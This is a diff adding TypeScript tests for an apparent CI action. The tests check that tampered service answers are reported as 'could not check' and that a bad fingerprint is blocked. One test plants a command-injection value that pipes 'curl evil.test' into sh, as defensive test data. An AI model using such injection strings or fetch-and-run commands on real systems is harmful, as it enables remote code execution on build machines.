@@ -230,3 +230,61 @@ describe('secrets and files in inputs', () => {
     ).toBe(false);
   });
 });
+
+describe('answers that would fool a gate', () => {
+  /** The sandbox's own answer to `path`, changed by `edit`, served once in its place. */
+  async function tampered(path: string, edit: (answer: Record<string, unknown>) => void) {
+    const sandbox = await start();
+    const response = await sandbox.fetch(path);
+    expect(response.status).toBe(200);
+    const answer = (await response.json()) as Record<string, unknown>;
+    edit(answer);
+    sandbox.sandbox.faults.respondNext(1, { status: 200, body: answer });
+    return sandbox;
+  }
+
+  it('list-actions with fail-if-failing: an action whose status the service does not give is could-not-check', async () => {
+    const sandbox = await tampered('/actions/demo', (answer) => {
+      for (const action of answer as unknown as Record<string, unknown>[]) {
+        action.is_failing = action.name === 'release-webhook' ? false : null;
+      }
+    });
+    const result = await runAction('list-actions', {
+      inputs: { ...connection(sandbox.url), 'fail-if-failing': 'true' },
+    });
+    expect(result.code).toBe(1);
+    expect(result.outputs.outcome).toBe('error');
+    expect(result.stdout).toMatch(
+      /::error::fail-if-failing: could not check: the service does not say whether 2 of 3/,
+    );
+  });
+
+  it('diff-envs: an answer that names no snapshot is could-not-check, never "no differences"', async () => {
+    const sandbox = await tampered('/env-diff/demo?snappish1=staging&snappish2=staging', (answer) => {
+      for (const group of Object.values(answer)) delete (group as Record<string, unknown>).snapshot_id;
+    });
+    const result = await runAction('diff-envs', {
+      inputs: {
+        ...connection(sandbox.url),
+        'snapshot-1': 'staging',
+        'snapshot-2': 'staging',
+        'fail-on-diff': 'true',
+      },
+    });
+    expect(result.code).toBe(1);
+    expect(result.outputs.changed).not.toBe('false');
+    expect(result.stdout).toContain('snapshot_id is missing: the answer names no snapshot');
+  });
+
+  it('get-deployment: a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
+    const sandbox = await tampered(`/deployments/demo/staging/${BACKEND_150}`, (answer) => {
+      (answer.replaced_artifact as Record<string, unknown>).fingerprint = '"; curl evil.test | sh; echo "';
+    });
+    const result = await runAction('get-deployment', {
+      inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
+    });
+    expect(result.outputs.outcome).toBe('found');
+    expect(result.outputs['replaced-fingerprint']).toBe('');
+    expect(result.everything).not.toContain('curl evil.test');
+  });
+});
